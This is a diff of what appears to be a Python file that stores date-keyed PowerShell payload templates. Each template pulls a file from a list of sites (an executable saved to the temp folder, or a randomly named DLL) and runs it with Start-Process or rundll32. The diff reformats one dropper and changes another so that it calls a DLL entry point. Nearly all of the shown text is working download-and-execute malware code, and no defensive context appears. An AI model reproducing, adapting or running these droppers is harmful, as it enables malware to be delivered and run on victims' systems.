@@ -24,8 +24,9 @@ YEARS = {
         None, ("P1",),
     ),
     "2018-12": (
-        "$a='" + "@".join(SITES) + "'.Split('@');$b=([System.IO.Path]::GetTempPath()+'\\zPK.exe');$c=New-Object -com 'msxml2.xmlhttp';"
-        "$d=New-Object -com 'adodb.stream';foreach($e in $a){try{$c.open('GET',$e,0);$c.send();If($c.Status -eq 200){$d.open();"
+        "$a='" + "@".join(SITES) + "'.Split('@');$b=([System.IO.Path]::GetTempPath()+'\\zPK.exe');"
+        "$c=New-Object -com 'msxml2.xmlhttp';$d=New-Object -com 'adodb.stream';foreach($e in $a){"
+        "try{$c.open('GET',$e,0);$c.send();If($c.Status -eq 200){$d.open();"
         "$d.type=1;$d.write($c.responseBody);$d.savetofile($b);Start-Process $b;break;}}catch{}}",
         None, ("P1",),
     ),
@@ -53,7 +54,8 @@ YEARS = {
     ),
     "2021-11": (
         '$s="' + ",".join(SITES) + '".Split(",");foreach($x in $s){$a=Get-Random;$t="' + LIBRARY + '"+$a+".dll";'
-        'Invoke-WebRequest -Uri $x -OutFile $t;if(Test-Path $t){$f="rundll32.exe";Start-Process $f -ArgumentList $t;break;}}',
+        'Invoke-WebRequest -Uri $x -OutFile $t;if(Test-Path $t){$f="rundll32.exe";$b=$t+",f"+$a;'
+        'Start-Process $f -ArgumentList $b;break;}}',
         None, ("P5",),
     ),
     "2022-04": (
